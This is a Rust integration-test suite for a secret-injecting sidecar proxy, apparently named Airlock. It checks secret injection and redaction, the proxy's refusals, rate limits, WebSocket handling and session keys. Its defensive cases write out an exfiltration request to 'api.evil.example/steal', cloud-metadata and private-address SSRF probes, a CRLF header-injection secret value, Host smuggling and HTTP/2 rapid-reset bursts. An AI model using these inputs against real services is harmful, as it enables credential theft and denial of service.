//! The sidecar proxy with real clients (curl, Python requests, the openai SDK, reqwest)
//! and real TLS: injection upstream, redaction back, and every refusal sending nothing.

use std::process::Command;
use std::time::Instant;

use crate::sidecar::Sidecar;
use crate::support::secret_value;

const PLACEHOLDER: &str = "{{secret:production/openai/api-key}}";

fn bearer() -> String {
    format!("Authorization: Bearer {PLACEHOLDER}")
}

fn header<'a>(r: &'a crate::upstream::Recorded, name: &str) -> Option<&'a str> {
    r.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
}

#[test]
fn curl_through_https_proxy_gets_the_value_injected_and_redacted() {
    let sc = Sidecar::start();
    let value = secret_value("openai");
    let (status, out) = sc.curl(&["-H", &bearer(), "https://api.openai.com/v1/echo"]);
    assert_eq!(status, 200, "{out}");
    let got = sc.requests_to("api.openai.com");
    assert_eq!(got.len(), 1);
    assert_eq!(
        header(&got[0], "authorization"),
        Some(format!("Bearer {value}").as_str()),
        "the upstream got the real value"
    );
    assert!(!out.contains(&value), "curl saw the value: {out}");
    assert!(out.contains(&format!("x-echo-authorization: Bearer {PLACEHOLDER}")), "echoed header redacted: {out}");
    assert!(out.contains(PLACEHOLDER), "{out}");
    // The proxy counted it, and its metrics carry no value.
    let metrics = reqwest::blocking::get(format!("http://{}/_airlock/metrics", sc.proxy_addr)).unwrap().text().unwrap();
    assert!(metrics.contains(r#"airlock_proxy_requests_total{outcome="injected"} 1"#), "{metrics}");
    assert!(metrics.contains("airlock_proxy_request_duration_seconds"), "{metrics}");
    assert!(!metrics.contains(&value), "a value in the metrics");
}

fn python(script: &str, envs: &[(&str, String)]) -> (bool, String) {
    let out = Command::new("python3")
        .arg("-c")
        .arg(script)
        .envs(envs.iter().map(|(k, v)| (*k, v.as_str())))
        .output()
        .unwrap();
    (out.status.success(), format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
}

#[test]
fn python_requests_through_https_proxy() {
    let sc = Sidecar::start();
    let script = format!(
        r#"
import requests
r = requests.get("https://api.openai.com/v1/echo", headers={{"Authorization": "Bearer {PLACEHOLDER}"}})
print(r.status_code)
print(r.headers.get("x-echo-authorization"))
print(r.text)
"#
    );
    let proxy = format!("http://{}", sc.proxy_addr);
    let (ok, out) = python(
        &script,
        &[
            ("HTTPS_PROXY", proxy),
            ("REQUESTS_CA_BUNDLE", sc.ca_path().display().to_string()),
            ("NO_PROXY", String::new()),
        ],
    );
    assert!(ok, "{out}");
    assert!(out.starts_with("200\n"), "{out}");
    assert!(!out.contains(&secret_value("openai")), "{out}");
    assert!(out.contains(PLACEHOLDER), "{out}");
    let got = sc.requests_to("api.openai.com");
    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
}

#[test]
fn openai_sdk_in_route_mode() {
    let sc = Sidecar::start();
    let script = format!(
        r#"
import openai
client = openai.OpenAI(base_url="http://{}/r/openai", api_key="{PLACEHOLDER}", max_retries=0)
echo = client.get("/echo", cast_to=object)
print(echo["headers"].get("authorization"))
"#,
        sc.proxy_addr
    );
    let (ok, out) = python(&script, &[]);
    assert!(ok, "{out}");
    assert_eq!(out.trim(), format!("Bearer {PLACEHOLDER}"), "the SDK sees the placeholder echoed back");
    let got = sc.requests_to("api.openai.com");
    assert_eq!(got[0].path, "/v1/echo");
    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
}

/// One keep-alive connection in route mode: a response too long to buffer comes back
/// streamed with every copy of the value replaced; the same connection then carries a
/// request with a chunked body (served by the hyper fallback) and a plain one again.
#[test]
fn long_responses_are_redacted_in_stream_and_the_connection_lives_on() {
    let sc = Sidecar::start();
    let value = secret_value("openai");
    let script = format!(
        r#"
import json, requests
s = requests.Session()
auth = {{"Authorization": "Bearer {PLACEHOLDER}"}}
base = "http://{}/r/openai"
r = s.get(base + "/echo?size=200000", headers=auth)
body = r.text
echo = json.loads(body)
print(r.status_code, r.headers.get("transfer-encoding"), len(echo["padding"]), echo["headers"]["authorization"])
print("VALUE-IN-BODY" if "{value}" in body else "clean")
def chunks():
    yield b'{{"part": 1,'
    yield b' "part2": 2}}'
r = s.post(base + "/echo", data=chunks(), headers=auth)
print(r.status_code, json.loads(r.text)["body"])
r = s.get(base + "/echo", headers=auth)
print(r.status_code, r.headers.get("x-echo-authorization"))
"#,
        sc.proxy_addr
    );
    let (ok, out) = python(&script, &[]);
    assert!(ok, "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], format!("200 chunked 200000 Bearer {PLACEHOLDER}"), "{out}");
    assert_eq!(lines[1], "clean", "{out}");
    assert_eq!(lines[2], r#"200 {"part": 1, "part2": 2}"#, "{out}");
    assert_eq!(lines[3], format!("200 Bearer {PLACEHOLDER}"), "{out}");
    let got = sc.requests_to("api.openai.com");
    assert_eq!(got.len(), 3, "three requests reached the upstream");
    assert!(got.iter().all(|r| header(r, "authorization") == Some(format!("Bearer {value}").as_str())));
}

fn reqwest_via_proxy(sc: &Sidecar) -> reqwest::Client {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let ca = reqwest::Certificate::from_pem(&std::fs::read(sc.ca_path()).unwrap()).unwrap();
    reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(format!("http://{}", sc.proxy_addr)).unwrap())
        .tls_built_in_root_certs(false)
        .add_root_certificate(ca)
        .build()
        .unwrap()
}

#[test]
fn a_streamed_response_arrives_chunk_by_chunk() {
    let sc = Sidecar::start();
    let client = reqwest_via_proxy(&sc);
    crate::support::block_on(async {
        let mut resp = client
            .get("https://api.openai.com/sse")
            .header("authorization", format!("Bearer {PLACEHOLDER}"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
        let first = resp.chunk().await.unwrap().expect("a first chunk");
        let first_at = Instant::now();
        let mut all = first.to_vec();
        while let Some(c) = resp.chunk().await.unwrap() {
            all.extend_from_slice(&c);
        }
        let all = String::from_utf8_lossy(&all).into_owned();
        let last_sent = sc.upstream.last_sse_sent().expect("the upstream sent the last event");
        assert!(first_at < last_sent, "the first chunk arrived only after the upstream sent the last one");
        assert!(String::from_utf8_lossy(&first).starts_with("data: "), "{first:?}");
        for n in 1..=5 {
            assert!(all.contains(&format!("data: {n}\n\n")), "event {n} missing from {all:?}");
        }
    });
}

#[test]
fn http2_on_both_sides() {
    let sc = Sidecar::start();
    let (status, out) = sc.curl(&["--http2", "-H", &bearer(), "https://api.openai.com/v1/echo"]);
    assert_eq!(status, 200, "{out}");
    assert!(out.contains("\nHTTP/2 200"), "agent side spoke h2: {out}");
    let got = sc.requests_to("api.openai.com");
    assert_eq!(got[0].version, "HTTP/2.0", "proxy to upstream spoke h2");
    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
}

#[test]
fn refusals_send_nothing_upstream() {
    let sc = Sidecar::start();
    sc.server.create("production/stripe/key", &secret_value("stripe"));
    let cases: Vec<(Vec<String>, &str)> = vec![
        (vec!["-H".into(), bearer(), "https://api.evil.example/steal".into()], "host_not_allowed"),
        (vec!["-A".into(), PLACEHOLDER.into(), "https://api.openai.com/v1/ua".into()], "placement_not_allowed"),
        (
            vec!["-H".into(), format!("Cookie: session={PLACEHOLDER}"), "https://api.openai.com/v1/c".into()],
            "placement_not_allowed",
        ),
        (
            vec!["-H".into(), format!("X-Custom: {PLACEHOLDER}"), "https://api.openai.com/v1/x".into()],
            "placement_not_allowed",
        ),
        (
            vec![
                "-H".into(),
                "Authorization: Bearer {{secret:production/stripe/key}}".into(),
                "https://api.openai.com/v1/s".into(),
            ],
            "secret_not_granted",
        ),
        (vec![format!("https://api.openai.com/v1/q?key={PLACEHOLDER}")], "placement_not_allowed"),
        (vec!["https://api.github.com/".into()], "egress_denied"),
        (vec!["-H".into(), "Host: api.evil.example".into(), "https://api.openai.com/v1/h".into()], "host_mismatch"),
        // (A tunnel whose TLS names another host fails its handshake before any request:
        // exfiltration::a_connect_whose_sni_names_another_host_is_refused_before_a_leaf_is_minted.)
    ];
    for (args, code) in &cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, out) = sc.curl(&args);
        assert_eq!(status, 403, "{args:?}: {out}");
        // (curl does not print the body of a refused CONNECT, only its headers)
        assert!(
            out.to_ascii_lowercase().contains(&format!("x-airlock-error: {code}")),
            "{args:?} → expected {code}: {out}"
        );
        assert!(!out.contains(&secret_value("openai")));
    }
    assert!(sc.upstream.requests().is_empty(), "nothing reached the upstream: {:?}", sc.upstream.requests());
}

#[test]
fn private_addresses_are_refused() {
    let sc = Sidecar::start();
    for host in ["127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.1.1"] {
        let (status, out) = sc.curl(&["--connect-timeout", "3", &format!("http://{host}/latest/meta-data/")]);
        assert_eq!(status, 403, "{host}: {out}");
        assert!(out.contains("private_address"), "{host}: {out}");
    }
}

#[test]
fn denying_private_networks_holds_at_once_for_a_host_already_checked() {
    let open = crate::sidecar::policy("").replace("deny_private_networks = true", "deny_private_networks = false");
    let sc = Sidecar::start_custom(&open, &[]);
    // The central server listens on 127.0.0.1: a private address the open policy allows.
    let url = sc.server.url("/healthz");
    for _ in 0..2 {
        let (status, out) = sc.curl(&[&url]);
        assert_eq!(status, 200, "{out}");
    }
    sc.reload_policy(&crate::sidecar::policy(""));
    // The proxy hears of the new policy over its change stream; the address it checked a
    // moment ago under the old one must not pass under the new one.
    let deadline = Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let (status, out) = sc.curl(&[&url]);
        if status == 403 {
            assert!(out.contains("private_address"), "{out}");
            break;
        }
        assert_eq!(status, 200, "{out}");
        assert!(Instant::now() < deadline, "the proxy still lets 127.0.0.1 through after the policy denied it");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

#[test]
fn a_value_with_crlf_never_reaches_a_header() {
    let sc = Sidecar::start();
    let body = serde_json::json!({ "path": "production/openai/crlf", "value": format!("{}\r\nX-Injected: yes", secret_value("crlf")) });
    assert_eq!(sc.server.admin("POST", "/v1/secrets", Some(&body.to_string())).0, 201);
    let (status, out) =
        sc.curl(&["-H", "Authorization: Bearer {{secret:production/openai/crlf}}", "https://api.openai.com/v1/crlf"]);
    assert_eq!(status, 403, "{out}");
    assert!(out.contains("unsafe_value"), "{out}");
    assert!(sc.upstream.requests().is_empty());
}

#[test]
fn per_host_rate_limit_gives_429_with_retry_after() {
    let sc = Sidecar::start();
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(sc.curl(&["https://api.evil.example/free"]));
    }
    assert_eq!(statuses.iter().map(|s| s.0).collect::<Vec<_>>(), vec![200, 200, 200, 429], "{statuses:?}");
    let out = &statuses[3].1.to_ascii_lowercase();
    assert!(out.contains("retry-after:") && out.contains("rate_limited"), "{out}");
}

#[test]
fn basic_credentials_query_and_json_fields_are_substituted_where_granted() {
    let sc = Sidecar::start();
    let json_secret = serde_json::json!({ "user": "svc", "password": secret_value("pw") }).to_string();
    let body = serde_json::json!({ "path": "production/multi/creds", "value": json_secret });
    assert_eq!(sc.server.admin("POST", "/v1/secrets", Some(&body.to_string())).0, 201);
    let (status, out) = sc.curl(&[
        "-u",
        "svc:{{secret:production/multi/creds#password}}",
        "https://api.openai.com/v1/basic?token={{secret:production/multi/creds%23password}}",
    ]);
    assert_eq!(status, 200, "{out}");
    let got = sc.requests_to("api.openai.com");
    use base64::Engine as _;
    let expected = base64::engine::general_purpose::STANDARD.encode(format!("svc:{}", secret_value("pw")));
    assert_eq!(header(&got[0], "authorization"), Some(format!("Basic {expected}").as_str()));
    assert!(got[0].path.contains(&format!("token={}", secret_value("pw"))), "{}", got[0].path);
    assert!(!out.contains(&secret_value("pw")), "{out}");
}

#[test]
fn websocket_upgrades_pass_through() {
    let plain = crate::upstream::Upstream::start_plain();
    let sc = Sidecar::start_with("", &["--resolve", &format!("ws.local={}", plain.addr())]);
    let reply = crate::upstream::ws_echo_via(&sc.proxy_addr, "ws.local", plain.port, "/ws", "hello through airlock");
    assert_eq!(reply, "hello through airlock");
    let upgrade = &plain.requests()[0];
    assert_eq!(upgrade.version, "HTTP/1.1");
    assert_eq!(
        upgrade.header("host"),
        Some(format!("ws.local:{}", plain.port).as_str()),
        "HTTP/1.1 upstreams get a Host header"
    );
}

#[test]
fn an_open_websocket_closes_when_its_host_leaves_the_allowlist() {
    use std::io::{BufRead, Read, Write};
    let plain = crate::upstream::Upstream::start_plain();
    let sc = Sidecar::start_with("", &["--resolve", &format!("ws.local={}", plain.addr())]);
    let mut ws = std::net::TcpStream::connect(&sc.proxy_addr).unwrap();
    let authority = format!("ws.local:{}", plain.port);
    let upgrade = format!(
        "GET http://{authority}/ws HTTP/1.1\r\nHost: {authority}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    );
    ws.write_all(upgrade.as_bytes()).unwrap();
    let mut reader = std::io::BufReader::new(ws.try_clone().unwrap());
    let mut status = String::new();
    reader.read_line(&mut status).unwrap();
    assert!(status.starts_with("HTTP/1.1 101"), "{status}");
    while !matches!(reader.read_line(&mut String::new()), Ok(0..=2)) {} // the rest of the head
    let narrower = crate::sidecar::policy("").replace("\"ws.local\", ", "");
    assert!(!narrower.contains("ws.local"));
    sc.reload_policy(&narrower);
    ws.set_read_timeout(Some(std::time::Duration::from_secs(5))).unwrap();
    let closed = reader.read(&mut [0u8; 64]);
    assert!(crate::sidecar::saw_closed(&closed), "the WebSocket is closed, not left open: {closed:?}");
}

#[test]
fn websocket_frames_do_not_carry_an_injected_value_back() {
    let plain = crate::upstream::Upstream::start_plain();
    let rules = format!(
        "\n[[route]]\nname = \"ws\"\nupstream = \"http://ws.local:{port}\"\n\n\
         [[grant]]\nsecrets = \"production/ws/*\"\nhosts = [\"ws.local\"]\n\n\
         [[inject]]\nhost = \"ws.local\"\nheader = \"authorization\"\nvalue = \"Bearer {{{{secret:production/ws/key}}}}\"\n",
        port = plain.port
    );
    let sc = Sidecar::start_with(&rules, &["--resolve", &format!("ws.local={}", plain.addr())]);
    let value = secret_value("ws");
    sc.server.create("production/ws/key", &value);
    let offer = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n";
    let reply = crate::upstream::try_ws_echo_via(&sc.proxy_addr, "ws.local", plain.port, "/ws-headers", offer, "hello")
        .unwrap_or_else(|e| panic!("{e}"));
    let upgrade = &plain.requests()[0];
    assert_eq!(upgrade.header("authorization"), Some(format!("Bearer {value}").as_str()), "the upstream got the value");
    assert_eq!(
        upgrade.header("sec-websocket-extensions"),
        None,
        "compression, which would hide the value, was not offered"
    );
    // The upstream's frame says the value back; the agent gets it masked, frame length kept.
    assert_eq!(reply, format!("hello | authorization=Bearer {}", "*".repeat(value.len())));
    assert!(!sc.log().contains(&value), "the value is in no log line");
}

#[test]
fn passthrough_hosts_are_tunnelled_untouched_until_the_policy_stops_tunnelling_them() {
    use std::io::{Read, Write};
    let tunnelling = crate::sidecar::policy("")
        .replace("deny_private_networks = true", "deny_private_networks = true\npassthrough = [\"api.evil.example\"]");
    let sc = Sidecar::start_custom(&tunnelling, &[]);
    // The agent talks TLS with the upstream itself (it trusts the upstream's CA, not
    // Airlock's), and its placeholder arrives as it wrote it: a tunnelled host gets no values.
    let upstream_ca = sc.upstream.ca_pem.to_str().unwrap().to_owned();
    let (status, out) = sc.curl(&["--cacert", &upstream_ca, "-H", &bearer(), "https://api.evil.example/v1/tunnelled"]);
    assert_eq!(status, 200, "{out}");
    let seen = sc.requests_to("api.evil.example");
    assert_eq!(header(&seen[0], "authorization"), Some(format!("Bearer {PLACEHOLDER}").as_str()));

    // An open tunnel ends when a policy update stops tunnelling its host.
    let mut tunnel = std::net::TcpStream::connect(&sc.proxy_addr).unwrap();
    tunnel.write_all(b"CONNECT api.evil.example:443 HTTP/1.1\r\nHost: api.evil.example:443\r\n\r\n").unwrap();
    let mut answer = [0u8; 512];
    let n = tunnel.read(&mut answer).unwrap();
    assert!(answer[..n].starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&answer[..n]));
    sc.reload_policy(&crate::sidecar::policy(""));
    // (Well inside the 10 s the test upstream waits for a TLS handshake before it hangs up.)
    tunnel.set_read_timeout(Some(std::time::Duration::from_secs(5))).unwrap();
    let closed = tunnel.read(&mut answer);
    assert!(crate::sidecar::saw_closed(&closed), "the tunnel is closed, not left open: {closed:?}");
}

#[test]
fn ca_and_ops_endpoints_answer_on_the_listener() {
    let sc = Sidecar::start();
    let http = reqwest::blocking::Client::new();
    let ca = http.get(format!("http://{}/_airlock/ca.pem", sc.proxy_addr)).send().unwrap().text().unwrap();
    assert_eq!(ca, std::fs::read_to_string(sc.ca_path()).unwrap());
    let key_mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(sc.ca_path().with_file_name("ca.key")).unwrap().permissions(),
    );
    assert_eq!(key_mode & 0o777, 0o600);
    assert_eq!(http.get(format!("http://{}/_airlock/healthz", sc.proxy_addr)).send().unwrap().status(), 200);
}

// ---- who may use a proxy ---------------------------------------------------------------

/// `airlock proxy` for the sidecar's agent with `args`, listening on `listen` (a free port on
/// 127.0.0.1 when `None`); the child, its address and the file its standard error goes to.
fn bare_proxy(
    sc: &Sidecar,
    name: &str,
    listen: Option<&str>,
    args: &[&str],
) -> (std::process::Child, String, std::path::PathBuf) {
    let free = || std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let listen = listen.map_or_else(|| format!("127.0.0.1:{}", free()), str::to_owned);
    let log = sc.dir.path().join(format!("{name}.log"));
    let child = Command::new(crate::support::BIN)
        .args(["proxy", "--server", &sc.server.addr, "--listen", &listen])
        .arg("--agent-key-file")
        .arg(sc.dir.path().join("agent.key"))
        .arg("--data-dir")
        .arg(sc.dir.path().join(name))
        .args(args)
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    (child, listen, log)
}

/// Its exit status within 20 s, and what it wrote to standard error; a proxy still running
/// then is killed and the test fails.
fn exits(mut child: std::process::Child, log: &std::path::Path) -> (std::process::ExitStatus, String) {
    let deadline = Instant::now() + std::time::Duration::from_secs(20);
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return (status, std::fs::read_to_string(log).unwrap());
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("the proxy started and served: {}", std::fs::read_to_string(log).unwrap());
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

#[test]
fn a_proxy_without_a_session_key_or_the_flag_refuses_to_start_and_says_how_to_fix_it() {
    let sc = Sidecar::start();
    let (child, listen, log) = bare_proxy(&sc, "bare", None, &[]);
    let (status, err) = exits(child, &log);
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("no session key"), "{err}");
    assert!(err.contains("--session-key-file FILE") && err.contains("--allow-any-local-caller"), "says how: {err}");
    assert!(std::net::TcpStream::connect(&listen).is_err(), "nothing listens");

    // The flag serves any local caller, but only on loopback.
    let (child, _, log) = bare_proxy(&sc, "wide", Some("0.0.0.0:0"), &["--allow-any-local-caller"]);
    let (status, err) = exits(child, &log);
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("loopback") && err.contains("--session-key-file"), "{err}");

    // The flag and a session key contradict each other.
    let key = sc.dir.path().join("session.key");
    std::fs::write(&key, "sk_airlock_session_for_the_test").unwrap();
    let (child, _, log) =
        bare_proxy(&sc, "both", None, &["--allow-any-local-caller", "--session-key-file", key.to_str().unwrap()]);
    let (status, err) = exits(child, &log);
    assert!(!status.success(), "{err}");
    assert!(err.contains("cannot be used with"), "{err}");

    // The fixture's proxy, started with the flag, says that it serves any local caller.
    assert!(sc.log().contains("--allow-any-local-caller"), "{}", sc.log());
}

#[test]
fn a_session_key_admits_only_callers_that_present_it_and_the_log_says_where_it_is() {
    let keys = tempfile::tempdir().unwrap();
    let key = "sk_airlock_session_0123456789abcdef";
    let file = keys.path().join("session.key");
    std::fs::write(&file, format!("{key}\n")).unwrap();
    let sc = Sidecar::start_with("", &["--session-key-file", file.to_str().unwrap()]);
    let url = "https://api.openai.com/v1/echo";
    let route = format!("http://{}/r/openai/echo", sc.proxy_addr);

    // Without the key: 407, with how to present it, and nothing upstream.
    let (status, out) = sc.curl(&["-H", &bearer(), url]);
    assert_eq!(status, 407, "{out}");
    let resp = reqwest::blocking::Client::new().get(&route).send().unwrap();
    assert_eq!(resp.status(), 407);
    assert!(resp.text().unwrap().contains("session key"));
    let (status, _) = sc.curl(&["--proxy-user", "airlock:not-the-key", "-H", &bearer(), url]);
    assert_eq!(status, 407);
    assert!(sc.upstream.requests().is_empty(), "nothing went upstream");

    // With it: as Proxy-Authorization (CONNECT), and as a route's bearer token.
    let (status, out) = sc.curl(&["--proxy-user", &format!("airlock:{key}"), "-H", &bearer(), url]);
    assert_eq!(status, 200, "{out}");
    let resp = reqwest::blocking::Client::new().get(&route).bearer_auth(key).send().unwrap();
    assert_eq!(resp.status(), 200);
    // As the examples' agents send it: Python's urllib, the key in HTTPS_PROXY.
    let script = format!(
        r#"
import urllib.request
request = urllib.request.Request("{url}", headers={{"Authorization": "Bearer {PLACEHOLDER}"}})
print(urllib.request.urlopen(request, timeout=20).status)
"#
    );
    let proxy = format!("http://airlock:{key}@{}", sc.proxy_addr);
    let ca = sc.ca_path().display().to_string();
    let (ok, out) = python(&script, &[("HTTPS_PROXY", proxy), ("SSL_CERT_FILE", ca), ("NO_PROXY", String::new())]);
    assert!(ok && out.starts_with("200"), "{out}");
    let got = sc.requests_to("api.openai.com");
    assert_eq!(got.len(), 3);
    assert_eq!(header(&got[0], "authorization"), Some(format!("Bearer {}", secret_value("openai")).as_str()));
    assert!(got.iter().all(|r| !r.contains(key)), "the session key stays with the proxy");
    // The proxy's own endpoints (CA, probes) need no key.
    let ca = reqwest::blocking::get(format!("http://{}/_airlock/ca.pem", sc.proxy_addr)).unwrap();
    assert_eq!(ca.status(), 200);

    // The log says where the key is, and never what it is.
    let log = sc.log();
    assert!(log.contains(&file.display().to_string()), "{log}");
    assert!(!log.contains(key), "the session key reached the log");
}

/// On `h2`: one request, then 20 bursts of 10 streams each opened and reset in one write
/// (HEADERS then RST_STREAM), then one request more; how many requests completed.
fn reset_bursts<S: std::io::Read + std::io::Write>(h2: &mut crate::raw::H2<S>, fields: &[(&str, &str)]) -> usize {
    use crate::raw::{headers_frame, rst_frame};
    let mut completed = 0;
    // One request first: the route's checks are then cached and the burst meets no wait
    // before the upstream would be dialled.
    h2.send(&headers_frame(1, fields, true));
    assert_eq!(h2.response(1).1, b"ok");
    completed += 1;
    let mut id = 1;
    for batch in 0..20u8 {
        let mut burst = Vec::new();
        for _ in 0..10 {
            id += 2;
            burst.extend(headers_frame(id, fields, true));
            burst.extend(rst_frame(id));
        }
        h2.send(&burst);
        // Each burst handled before the next: the proxy's HTTP/2 server ends a connection
        // with too many reset streams not yet taken up at once.
        h2.ping_pong([batch; 8]);
    }
    id += 2;
    h2.send(&headers_frame(id, fields, true));
    assert_eq!(h2.response(id).1, b"ok", "the connection still serves");
    completed + 1
}

/// HTTP/2 "rapid reset": an agent opens streams and resets each at once. A reset stream's
/// request is gone before it could be sent, so the proxy opens no upstream connection for
/// it: no more connections than the requests it completes, in route mode (cleartext HTTP/2)
/// and inside a CONNECT tunnel.
#[test]
fn streams_reset_before_their_request_went_out_open_no_upstream_connection() {
    use crate::raw::{H2, Hostile, Reply};
    let hostile = Hostile::start(|_| Reply::Send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_vec()));
    let sc = Sidecar::start_against("", &[], hostile.port, &hostile.ca_pem);
    let route = [(":method", "GET"), (":scheme", "http"), (":authority", "airlock"), (":path", "/r/openai/models")];
    let mut completed = reset_bursts(&mut H2::prior_knowledge(&sc.proxy_addr), &route);
    let tunnel = crate::raw::tunnel(&sc.proxy_addr, "api.openai.com:443");
    let tls = crate::raw::tls_over(tunnel, "api.openai.com", &sc.ca_path(), &[b"h2"]);
    let inside = [(":method", "GET"), (":scheme", "https"), (":authority", "api.openai.com"), (":path", "/v1/models")];
    completed += reset_bursts(&mut H2::start(tls), &inside);
    // A dial started for a reset stream would have landed by now.
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(
        hostile.accepted() <= completed,
        "{} upstream connections for {completed} completed requests (400 reset streams)",
        hostile.accepted()
    );
    assert_eq!(hostile.received().len(), completed, "only the completed requests went upstream");
}

/// A stream reset while the proxy is still opening its upstream connection takes the dial
/// with it: the half-open connection is closed at once, not finished in the background (and
/// pooled), and nothing else is dialled.
#[test]
fn a_stream_reset_while_its_upstream_is_dialled_cancels_the_dial() {
    use std::io::Read;

    use crate::raw::{H2, Hostile, Reply, headers_frame, rst_frame};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // Only its CA is used: api.openai.com is pinned to the listener, which never answers TLS.
    let hostile = Hostile::start(|_| Reply::Silence);
    let sc = Sidecar::start_against("", &[], port, &hostile.ca_pem);
    let accept = || {
        let deadline = Instant::now() + std::time::Duration::from_secs(10);
        loop {
            match listener.accept() {
                Ok((stream, _)) => return Some(stream),
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => {
                    std::thread::sleep(std::time::Duration::from_millis(10))
                }
                Err(_) => return None,
            }
        }
    };
    let mut h2 = H2::prior_knowledge(&sc.proxy_addr);
    let route = [(":method", "GET"), (":scheme", "http"), (":authority", "airlock"), (":path", "/r/openai/models")];
    h2.send(&headers_frame(1, &route, true));
    let mut upstream = accept().expect("the proxy dialled the upstream for a live request");
    upstream.set_nonblocking(false).unwrap();
    upstream.set_read_timeout(Some(std::time::Duration::from_secs(5))).unwrap();
    let mut buf = [0u8; 4096];
    assert!(upstream.read(&mut buf).unwrap() > 0, "the TLS handshake began");
    h2.send(&rst_frame(1));
    let reset = Instant::now();
    let closed = loop {
        match upstream.read(&mut buf) {
            Ok(0) => break true,
            Ok(_) => {}
            Err(e) => break e.kind() == std::io::ErrorKind::ConnectionReset,
        }
    };
    // Well within the 10 s connect timeout a dial left running would take.
    assert!(closed && reset.elapsed() < std::time::Duration::from_secs(3), "the dial went on: {:?}", reset.elapsed());
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock), "nothing else dialled");
}
